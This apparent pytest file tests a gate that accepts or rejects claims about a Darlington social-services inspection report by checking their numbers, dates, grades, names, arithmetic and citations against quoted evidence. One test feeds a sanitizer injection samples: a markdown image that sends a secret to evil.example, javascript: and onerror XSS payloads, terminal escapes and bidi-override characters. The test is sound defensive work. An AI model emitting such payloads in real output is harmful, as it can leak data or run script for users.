"""Claims: what stands in their quotes passes, what does not is rejected for what is wrong with it."""

from __future__ import annotations

from dataclasses import replace
from pathlib import Path

import pytest
from hypothesis import assume, given
from hypothesis import strategies as st
from tiny_library import build

from qa.answer import Answer, Claim
from qa.claim import Claim as Passed
from qa.ground import Arithmetic, Draft, Gate, Quoted, Rejected, ground, verify
from qa.ground.model import Evidence
from qa.ground.sanitize import sanitize

LATE = (
    "In Darlington 62 of the 248 assessments that were looked at in March 2015 had been finished late,"
    " against 18% in 2014."
)
STAFF = (
    "Jane Marlow leads the service. It has 24 social workers and 18 managers, and spent £1.2 million on agency staff."
)
GRADE = "The overall effectiveness is requires improvement to be good."
EVIDENCE = [
    Evidence(
        id=f"e{n}", report=1, start=0, end=len(text), text=text, title="Darlington, published 1 September 2015", page=1
    )
    for n, text in enumerate((LATE, STAFF, GRADE), 1)
]
GATE = Gate(EVIDENCE)


def draft(text: str, *quotes: str, sums: tuple[Arithmetic, ...] = ()) -> Draft:
    """A claim on whole pieces of evidence, named by id."""
    whole = {one.id: one.text for one in EVIDENCE}
    return Draft(text=text, quotes=tuple(Quoted(evidence=e, text=whole[e]) for e in quotes), arithmetic=sums)


def kinds(claim: Draft) -> set[str]:
    result = GATE.check(claim)
    return {problem.kind for problem in result.problems} if isinstance(result, Rejected) else set()


@pytest.mark.parametrize(
    "claim",
    [
        draft("In Darlington, 62 of 248 assessments were late in March 2015.", "e1"),
        draft("Sixty-two assessments were late.", "e1"),
        draft("In 2014, 18 per cent of assessments were late in Darlington.", "e1"),
        draft("The report published in September 2015 says that assessments were late.", "e1"),
        draft("Jane Marlow leads Darlington's service.", "e2"),
        draft("The overall grade is requires improvement.", "e3"),
        draft("The service spent £1.2m on agency staff.", "e2"),
    ],
)
def test_claims_that_stand_in_their_quotes_pass(claim: Draft) -> None:
    assert kinds(claim) == set()


@pytest.mark.parametrize(
    ("claim", "kind"),
    [
        (draft("In Darlington, 63 of 248 assessments were late.", "e1"), "number"),
        (draft("In Darlington, 62% of assessments were late.", "e1"), "number"),
        (draft("Late assessments were counted in April 2015.", "e1"), "date"),
        (draft("The overall effectiveness is good.", "e3"), "grade"),
        (draft("The overall effectiveness is inadequate.", "e3"), "grade"),
        (draft("Joan Marlow leads the service.", "e2"), "name"),
        (draft("The service is led by Jane Smith.", "e2"), "name"),
        (draft("In Slough assessments were late.", "e1"), "name"),
        (draft("Slough assessments were finished late.", "e1"), "name"),
        (draft("Assessments were finished late, as page 62 says.", "e1"), "page"),
        (draft("Send your money to the moon.", "e1"), "unrelated"),
        (draft("Yes.", "e1"), "unrelated"),
        (draft("Assessments were late."), "no_quote"),
        (draft("A quarter of assessments of Darlington were late.", "e1"), "number"),
    ],
)
def test_claims_that_do_not_stand_are_rejected_for_it(claim: Draft, kind: str) -> None:
    assert kind in kinds(claim)


def a_sum(operation: str, of: str, result: str) -> tuple[Arithmetic, ...]:
    return (Arithmetic(operation=operation, of=tuple(of.split("; ")), result=result),)  # type: ignore[arg-type]


@pytest.mark.parametrize(
    ("text", "sums", "passes"),
    [
        ("25% of assessments were late.", a_sum("share", "62; 248", "25%"), True),
        ("26% of assessments were late.", a_sum("share", "62; 248", "26%"), False),
        ("A total of 310 assessments were late.", a_sum("sum", "62; 248", "310"), False),
        ("186 assessments were not late.", a_sum("difference", "248; 62", "186"), True),
        ("186 assessments were never late.", a_sum("difference", "248; 63", "185"), False),
        ("186 assessments were not late.", a_sum("difference", "249; 63", "186"), False),
        ("44% more assessments were late.", a_sum("difference", "62; 18%", "44%"), False),
        ("186 assessments were not late.", a_sum("difference", "186", "186"), False),
        ("One of 2 assessments were late.", a_sum("count", "e1; e2", "2"), False),
    ],
)
def test_sums_are_done_again(text: str, sums: tuple[Arithmetic, ...], passes: bool) -> None:
    assert (kinds(draft(text, "e1", sums=sums)) == set()) is passes


def test_members_are_counted_only_where_they_are_quoted_and_never_against_the_program() -> None:
    claim = draft("Two parts of the service speak of assessments.", "e1", "e2", sums=a_sum("count", "e1; e2", "two"))
    assert isinstance(GATE.check(claim), Passed)
    assert isinstance(Gate(EVIDENCE, totals="3 reports say so.").check(claim), Rejected)
    assert isinstance(Gate(EVIDENCE, totals="2 of 3 reports say so.").check(claim), Passed)


@given(st.data())
def test_a_claim_with_an_altered_digit_is_rejected(data: st.DataObject) -> None:
    text = "In March 2015, 62 of 248 assessments in Darlington were late, against 18% in 2014."
    at = data.draw(st.sampled_from([at for at, c in enumerate(text) if c.isdigit()]))
    altered = text[:at] + data.draw(st.sampled_from([d for d in "0123456789" if d != text[at]])) + text[at + 1 :]
    assume("2015, 62" not in altered or "2014." not in altered or "248" not in altered or "18%" not in altered)
    # A year altered to the other year that the quote names is still a year of the quote.
    assume("2014, 62" not in altered and "in 2015." not in altered)
    assert isinstance(GATE.check(draft(text, "e1")), Passed)
    assert isinstance(GATE.check(draft(altered, "e1")), Rejected)


def test_a_cut_quote_lends_no_part_of_a_value() -> None:
    cut = Draft(text="18 assessments were late.", quotes=(Quoted(evidence="e1", text="finished late, against 18"),))
    graded = Draft(text="The service is good.", quotes=(Quoted(evidence="e3", text="improvement to be good"),))
    assert kinds(cut) == {"number"}
    assert "grade" in kinds(graded)


def test_ground_sorts_claims_and_gives_spans_of_the_report() -> None:
    moved = [replace(one, start=1000, end=1000 + len(one.text)) for one in EVIDENCE]
    good = Draft(text="Assessments were finished late.", quotes=(Quoted(evidence="e1", text="had been finished late"),))
    result = ground([good, draft("Assessments were late in 1999.", "e1")], moved)
    (kept,) = result.kept
    report, start, end = kept.spans[0]
    assert (report, LATE[start - 1000 : end - 1000]) == (1, "had been finished late")
    assert [problem.kind for problem in result.rejected[0].problems] == ["date"]


@pytest.mark.parametrize(
    "text",
    [
        "It is \x1b[31mred\x1b[0m and \x1b]8;;http://x.y\x07linked\x1b]8;;\x07",
        "See ![pixel](https://evil.example/?q=secret) and [this](javascript:alert(1))",
        "See ![a][b] <img src=x onerror=alert(1)> <script>x</script> www.evil.example",
        "[![nested](http://a.b)](http://c.d) http://e.f/g",
        "in\u200bvisible \u202ereversed\u2066 \ue000",
        "Good [1], bad [e2]. Worse (e3, e4).",
    ],
)
def test_nothing_in_a_claim_can_act(text: str) -> None:
    plain = sanitize(text)
    assert not any(bad in plain for bad in ("\x1b", "http", "](", "<", "javascript:", "www.", "[1]", "[e2]", "(e3"))
    assert not any(ord(c) in {0x200B, 0x202E, 0x2066, 0xE000} or ord(c) < 32 for c in plain)


@given(st.text(max_size=80))
def test_harmless_words_stay_as_they_are(text: str) -> None:
    assert sanitize(sanitize(text)) == sanitize(text)


def test_verify_sees_what_is_wrong_with_any_answer(tmp_path: Path) -> None:
    library = build(tmp_path)
    citer = library.citer()
    answer = library.extractive()
    assert verify(answer, citer) == []
    (citation,) = answer.citations
    moved = replace(answer, citations=(replace(citation, start=citation.start + 1, end=citation.end + 1),))
    paged = replace(answer, citations=(replace(citation, page=2),))
    figured = replace(answer, claims=(Claim(text="In Darlington 7 teams are inadequate.", citations=(1,)),))
    dated = replace(answer, claims=(Claim(text="In September 2015 Darlington was inadequate.", citations=(1,)),))
    missing = replace(answer, claims=(Claim(text="Inadequate.", citations=(2,)),))
    wrong: list[Answer] = [moved, paged, figured, missing]
    assert all(len(verify(one, citer)) == 1 for one in wrong), [verify(one, citer) for one in wrong]
    assert verify(figured, citer, figures=False) == []
    assert verify(dated, citer) == []
    library.store.close()
